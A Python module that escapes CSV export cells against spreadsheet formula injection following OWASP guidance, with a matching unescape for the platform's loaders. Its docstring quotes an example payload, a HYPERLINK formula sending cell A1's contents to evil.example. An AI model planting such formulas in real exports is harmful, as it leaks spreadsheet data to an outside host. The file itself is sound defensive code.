"""Formulas in text cells (CSV or formula injection): the CSV writer's escape and the CSV
loaders' inverse.

A spreadsheet (Excel, WPS, LibreOffice) opening a CSV reads a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and so after a leading tab or carriage return, so a station
named ``=HYPERLINK("http://evil.example/?d="&A1,"点此查看")`` in an imported list would become a
live link (or a DDE command) in the file of whoever downloads it. Following OWASP's "CSV
Injection" guidance (and ASVS 5.0 V1.2.10, which adds the NUL character), the platform's one
CSV writer (:mod:`ecohub.queries.export`) puts a ``'`` in front of such a text cell: spreadsheets
read the cell as text, and the text is all still there.

- Only text: number, time and boolean columns are written as they are.
- A text cell that is a plain decimal number (``-5``, ``+1.5e3``) is left alone: it cannot hold
  a formula, and prefixing it would turn a number into text (a reject file's ``-5``).
- A cell starting with ``'`` and then a trigger (``'=x``) gets one ``'`` more, so the escape can
  be undone exactly: :func:`unescape` takes one ``'`` off exactly the cells :func:`escape` adds
  one to, and the platform's CSV loaders apply it, so a file the platform wrote loads back as
  the values it held (other programs following OWASP escape the same way). The one value that
  changes on loading is a cell of another program that really starts with ``'`` and a trigger.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import TYPE_CHECKING

import pyarrow as pa
import pyarrow.compute as pc

if TYPE_CHECKING:
    import pandas as pd

# Pattern texts Python's re and Arrow's RE2 read alike (ASCII digits, the NUL as \x00). The
# triggers: = + - @ (OWASP), tab and CR (OWASP), NUL (ASVS 5.0 V1.2.10).
_TRIGGER = r"[=+\-@\t\r\x00]"
_ESCAPE = rf"^'*{_TRIGGER}"
_ESCAPED = rf"^'+{_TRIGGER}"
_NUMBER = r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?"
_escape_re, _escaped_re, _number_re = re.compile(_ESCAPE), re.compile(_ESCAPED), re.compile(_NUMBER)


def escape(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet reads as a formula (``'`` in front when needed)."""
    if _escape_re.match(text) and not _number_re.fullmatch(text):
        return "'" + text
    return text


def unescape(text: str) -> str:
    """The value :func:`escape` made ``text`` from (one leading ``'`` fewer when it stands
    before a trigger); any other text as it is."""
    return text[1:] if _escaped_re.match(text) else text


def _is_text(t: pa.DataType) -> bool:
    return (
        pa.types.is_string(t)
        or pa.types.is_large_string(t)
        or pa.types.is_string_view(t)
        or pa.types.is_binary(t)  # the CSV writer writes bytes as they are
        or pa.types.is_large_binary(t)
    )


def _escape_column(col: pa.ChunkedArray) -> pa.ChunkedArray:
    if pa.types.is_dictionary(col.type):
        col = col.cast(col.type.value_type)
    if pa.types.is_string_view(col.type):
        col = col.cast(pa.string())
    needs = pc.and_(
        pc.match_substring_regex(col, _ESCAPE),
        pc.invert(pc.match_substring_regex(col, f"^{_NUMBER}$")),  # RE2: $ is the end
    )
    quoted = pc.binary_join_element_wise(pa.scalar("'", col.type), col, pa.scalar("", col.type))
    return pc.if_else(needs, quoted, col)


def escape_table(table: pa.Table) -> pa.Table:
    """``table`` with every text cell and column name through :func:`escape` (other columns,
    nulls included, as they are)."""
    for i, field in enumerate(table.schema):
        t = field.type
        if _is_text(t) or (pa.types.is_dictionary(t) and _is_text(t.value_type)):
            table = table.set_column(i, field.name, _escape_column(table.column(i)))
    return table.rename_columns([escape(n) for n in table.column_names])


def unescape_table(table: pa.Table) -> pa.Table:
    """:func:`unescape` on every text cell of ``table`` (a CSV read as text)."""
    for i, field in enumerate(table.schema):
        if pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
            col = pc.replace_substring_regex(table.column(i), f"^'('*{_TRIGGER})", r"\1")
            table = table.set_column(i, field.name, col)
    return table


def _text_values(df: pd.DataFrame, fn: Callable[[str], str]) -> pd.DataFrame:
    import pandas as pd

    out = df.copy()
    for c in out.columns:
        col = out[c]
        if isinstance(col.dtype, pd.CategoricalDtype):  # a DuckDB ENUM
            col = col.astype(object)
        if pd.api.types.is_object_dtype(col) or pd.api.types.is_string_dtype(col):
            out[c] = col.map(lambda v: fn(v) if isinstance(v, str) else v)
    out.columns = [fn(c) if isinstance(c, str) else c for c in out.columns]
    return out


def escape_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell and column name through :func:`escape`."""
    return _text_values(df, escape)


def unescape_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` (a CSV read as text) with every cell and column name through
    :func:`unescape`."""
    return _text_values(df, unescape)
